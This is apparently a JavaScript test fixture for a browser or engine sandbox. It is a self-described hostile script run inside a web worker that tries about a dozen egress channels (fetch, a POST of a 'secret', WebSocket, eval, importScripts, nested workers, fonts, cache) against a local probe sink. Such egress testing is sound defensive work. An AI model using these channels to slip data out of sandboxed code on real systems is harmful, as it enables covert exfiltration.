// A hostile crate inside the engine, for the same test: packed behind the worker's own text, it runs with all of a
// worker's rights. The test puts the sink's port in place of the word below.
(() => {
  const sink = "http://127.0.0.1:PROBE_PORT";
  const nested = (url) => {
    const text = `fetch(${JSON.stringify(url)}, { mode: "no-cors" })`;
    new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
  };
  const channels = {
    "worker-fetch": (url) => fetch(url, { mode: "no-cors" }),
    "worker-fetch-post": (url) => fetch(url, { method: "POST", mode: "no-cors", body: "secret" }),
    "worker-xml-http-request": (url) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.send();
    },
    "worker-web-socket": (url) => new WebSocket(url.replace("http", "ws")),
    "worker-event-source": (url) => new EventSource(url),
    "worker-import-scripts": (url) => importScripts(url),
    "worker-import": (url) => import(url),
    "worker-web-transport": (url) => new WebTransport(url.replace("http:", "https:")),
    "worker-nested": nested,
    "worker-font": (url) => new FontFace("probe", `url(${url})`).load(),
    "worker-eval": (url) => (0, eval)(`fetch(${JSON.stringify(url)}, { mode: "no-cors" })`),
    "worker-new-function": (url) => new Function(`fetch(${JSON.stringify(url)}, { mode: "no-cors" })`)(),
    "worker-cache": (url) => caches.open("probe").then((cache) => cache.add(url)),
  };
  for (const [name, work] of Object.entries(channels)) {
    try {
      Promise.resolve(work(`${sink}/${name}`)).catch(() => {});
    } catch {
      // As in the page.
    }
  }
})();
